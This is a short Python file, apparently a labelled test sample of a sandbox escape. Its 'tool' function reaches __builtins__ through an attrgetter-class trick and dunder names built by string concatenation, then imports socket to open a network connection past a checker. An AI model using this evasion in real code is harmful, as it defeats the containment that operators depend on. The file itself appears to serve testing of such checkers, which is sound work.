# family: network
# Escape: `x.__class__` is allowed as a .get() argument (treated as a lookup key), but as the default it is
# returned: Getter is the attrgetter class. It reads tool.__builtins__ (run-time name); __import__("socket")
# then opens a TCP connection.
import operator


def tool(host: str, port: int) -> bytes:
    probe = operator.attrgetter("real")
    Getter = {}.get("missing", probe.__class__)
    edge = "_" * 2
    builtins_ns = Getter(edge + "builtins" + edge)(tool)
    net = builtins_ns[edge + "import" + edge]("socket")
    conn = net.create_connection((host, port), timeout=5)
    return conn.recv(1024)
